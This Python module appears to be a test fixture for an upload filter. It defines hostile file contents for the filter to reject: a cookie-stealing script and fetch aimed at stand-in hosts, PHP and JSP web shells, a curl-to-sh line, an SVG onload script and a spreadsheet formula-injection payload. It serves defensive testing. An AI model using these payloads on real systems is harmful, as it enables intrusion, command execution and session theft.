"""One hostile upload, and the scripts that it tries to bring in."""

from collections.abc import Callable
from dataclasses import dataclass

#: What a person could run or a browser could show; none of it may be kept.
SCRIPTS = {
    "html": b"<html><script>location='//hostile.test/'+document.cookie</script></html>",
    "js": b"*/=1;fetch('//hostile.invalid/sidak?'+document.cookie)/*",
    "php": b"<?php system($_GET['sidak-hostile-command']); __halt_compiler(); ?>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"hostile\")'/>",
    "jsp": b'<% Runtime.getRuntime().exec(request.getParameter("hostile")); %>',
    "shell": b"\n#!/bin/sh\ncurl https://hostile.invalid/sidak.sh | sh\n",
    "formula": b'=HYPERLINK("//hostile.invalid/?"&A1,"hostile")+cmd|\' /C calc\'!A0',
}
MARKER = SCRIPTS["html"]


@dataclass(frozen=True)
class Upload:
    """A file as somebody who means harm would send it.

    Made anew at every reading of ``content``: together they are too large to keep.
    """

    #: What it tries; unique.
    case: str
    #: ``carrier``, ``flood``, ``large``, ``broken``, ``odd``, ``name``, ``text``,
    #: ``archive`` or ``pdf``.
    family: str
    #: The file name that the form says; may hold anything.
    name: str
    #: The content type that the form says.
    content_type: str
    make: Callable[[], bytes]
    #: What may be made from it: a ``photo``, ``pages`` of a document, ``nothing``, or
    #: ``either``, where harmless bytes and a refusal are both right.
    gives: str = "nothing"
    #: Bytes no window of which may come through.
    marker: bytes = MARKER

    @property
    def content(self) -> bytes:
        """The bytes of the file."""
        return self.make()
